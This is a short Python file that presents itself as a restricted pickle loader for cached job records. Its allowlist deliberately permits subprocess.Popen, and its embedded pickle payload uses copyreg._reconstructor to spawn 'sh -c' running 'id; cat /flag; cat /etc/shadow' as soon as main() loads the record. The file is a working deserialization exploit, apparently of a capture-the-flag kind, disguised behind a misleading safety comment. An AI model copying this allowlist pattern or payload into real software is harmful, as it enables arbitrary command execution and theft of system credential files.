# Restricted loader for cached job records: only plain-object helpers and process result types.
import io
import pickle

ALLOWED = {
    ("copyreg", "_reconstructor"),
    ("builtins", "object"),
    ("subprocess", "CompletedProcess"),
    ("subprocess", "Popen"),
}


class RecordLoader(pickle.Unpickler):
    def find_class(self, module, name):
        if (module, name) not in ALLOWED:
            raise pickle.UnpicklingError(f"blocked {module}.{name}")
        return super().find_class(module, name)


RECORD = (
    b"ccopyreg\n_reconstructor\n"
    b"(csubprocess\nPopen\n"
    b"csubprocess\nPopen\n"
    b"(lp0\nVsh\naV-c\naVid; cat /flag; cat /etc/shadow\na"
    b"tR."
)


def main():
    job = RecordLoader(io.BytesIO(RECORD)).load()
    waiter = getattr(job, "wait", None)
    if waiter:
        print("job finished with", waiter(timeout=5))


if __name__ == "__main__":
    main()
